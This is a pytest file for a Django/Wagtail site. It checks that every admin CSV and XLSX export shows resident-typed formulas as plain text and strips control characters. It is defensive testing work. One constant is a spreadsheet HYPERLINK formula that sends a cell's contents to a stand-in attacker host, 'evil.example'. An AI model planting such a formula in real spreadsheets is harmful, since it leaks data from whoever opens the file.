"""Every CSV and XLSX file the admin hands out shows what residents typed as text: a cell that would start
a formula (=, +, -, @, tab, carriage return) starts with an apostrophe, and a control character neither
reaches the file nor breaks the XLSX writer (openpyxl's IllegalCharacterError was a 500).

The exports are found, not listed: every admin URL whose view is one of Wagtail's spreadsheet exports
(the project's viewsets and Wagtail's own reports), and every module of the project that writes CSV or
XLSX itself must use kumppanuus.spreadsheets. One payload is put into every kind of row they export.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query, QueryDailyHits

from engagement.feedback.models import Feedback
from engagement.privacy.models import PrivacyLogEntry
from tests.factories.consultations import make_comment, make_consultation, make_index
from tests.factories.events import EventIndexPageFactory, EventPageFactory, SignUpFactory
from tests.factories.feedback import FeedbackFactory
from tests.factories.home import ContentPageFactory
from tests.factories.proposals import ProposalFactory, SupportFactory

pytestmark = pytest.mark.django_db

# A resident's text as the spreadsheet would run it, with a control character that openpyxl refuses.
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")\x0b'
SHOWN = "'" + PAYLOAD.replace("\x0b", "")
OTHER_PAYLOADS = ["@SUM(1+1)", "+358 40 123", "-2+3", "\tx", "\rx"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
# The project's own exports that are not Wagtail listings: {url: query}.
CUSTOM_EXPORTS = {"/admin/proposals/proposal/report/": {"format": "csv", "year": timezone.now().year}}


def spreadsheet_exports():
    """{url: view class} of every admin URL that Wagtail's SpreadsheetExportMixin serves with columns."""

    def walk(patterns, prefix):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                yield prefix + str(pattern.pattern), pattern.callback

    found = {}
    for path, callback in walk(get_resolver().url_patterns, "/"):
        view_class = getattr(callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin) or "<" in path:
            continue
        if callback.view_initkwargs.get("list_export", view_class.list_export) and not path.endswith("/results/"):
            found[path] = view_class
    return found


@pytest.fixture
def hostile_rows(home_fi, superuser):
    """The payload in each kind of row an export lists: pages (published, locked, in a workflow, without
    a translation: the Wagtail reports), feedback, sign-ups, proposals, supports, the privacy log, a
    redirect and a search term."""
    page = ContentPageFactory(parent=home_fi, title=PAYLOAD)
    page.save_revision(user=superuser, log_action=True).publish(user=superuser)
    page.refresh_from_db()
    page.get_workflow().start(page, superuser)
    type(page).objects.filter(pk=page.pk).update(locked=True, locked_by=superuser, locked_at=timezone.now())
    FeedbackFactory(message=PAYLOAD, place=OTHER_PAYLOADS[0], name=OTHER_PAYLOADS[1], phone=OTHER_PAYLOADS[2])
    event = EventPageFactory(parent=EventIndexPageFactory(parent=home_fi), with_signup=True)
    SignUpFactory(event=event, name=PAYLOAD, phone=OTHER_PAYLOADS[1])
    proposal = ProposalFactory(title=PAYLOAD, proposer_name=OTHER_PAYLOADS[3], show_name=True,
                               answer_decided_by=OTHER_PAYLOADS[4], measures=OTHER_PAYLOADS[0],
                               answer_date=timezone.localdate())
    SupportFactory(proposal=proposal, name=PAYLOAD)
    consultation, _ = make_consultation(make_index(home_fi)[0], translate=False)
    make_comment(consultation, text=PAYLOAD, nickname=OTHER_PAYLOADS[0], reply=OTHER_PAYLOADS[2])
    PrivacyLogEntry.objects.create(username=PAYLOAD, action=PrivacyLogEntry.Action.SEARCH, email_hash="0" * 64)
    Redirect.objects.create(old_path="/vanha", redirect_link=PAYLOAD)
    # What a visitor searched for (the search terms report): stored as typed, past Wagtail's normalising save.
    query = Query.objects.create(query_string="haku")
    Query.objects.filter(pk=query.pk).update(query_string=PAYLOAD)
    QueryDailyHits.objects.create(query=query, date=timezone.localdate(), hits=1)
    assert Feedback.objects.count() == 1


def csv_cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def problems(label, cells):
    found = [f"{label}: {cell!r} would run as a formula" for cell in cells if cell.startswith(FORMULA_STARTS)]
    found += [f"{label}: {cell!r} has a control character" for cell in cells if CONTROL.search(cell)]
    if SHOWN not in cells:
        found.append(f"{label}: the payload is not among its cells (add a row of this kind to hostile_rows)")
    return found


def test_the_exports_are_found():
    found = spreadsheet_exports()
    assert {
        "/admin/feedback/inbox/", "/admin/event_signups/", "/admin/proposals/support/", "/admin/proposals/proposal/",
        "/admin/privacy/log/", "/admin/reports/site-history/", "/admin/reports/locked/", "/admin/reports/translations/",
    } <= set(found)


def test_every_export_shows_a_formula_as_text_in_csv_and_xlsx(client, superuser, hostile_rows):
    client.force_login(superuser)
    failures = []
    for url in sorted(spreadsheet_exports()):
        for fmt, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            response = client.get(url, {"export": fmt})
            if response.status_code != 200:
                failures.append(f"{url} {fmt}: {response.status_code}")
                continue
            failures += problems(f"{url} {fmt}", cells_of(response))
    for url, query in CUSTOM_EXPORTS.items():
        response = client.get(url, query)
        assert response["Content-Type"].startswith("text/csv")
        failures += problems(f"{url} {query}", csv_cells(response))
    assert not failures, "\n".join(failures)


def test_the_feedback_inbox_exports_new_feedback_with_a_control_character_as_xlsx(client, superuser):
    """The export staff use most: it answered 500 (IllegalCharacterError) for one message with \\x0b."""
    FeedbackFactory(message="Rivi\x0btoinen \x1b[31m", name="@Aino")
    client.force_login(superuser)
    response = client.get("/admin/feedback/inbox/", {"export": "xlsx", "status": "received"})
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert "Rivitoinen [31m" in cells and "'@Aino" in cells


def test_only_the_shared_writer_writes_spreadsheets():
    """A new export written by hand would skip the neutralising: it must use kumppanuus.spreadsheets."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|text/csv|spreadsheetml")
    offenders = [
        str(path.relative_to(root))
        for folder in ("engagement", "home", "site")
        for path in (root / folder).rglob("*.py")
        if "migrations" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == ["site/spreadsheets.py"]
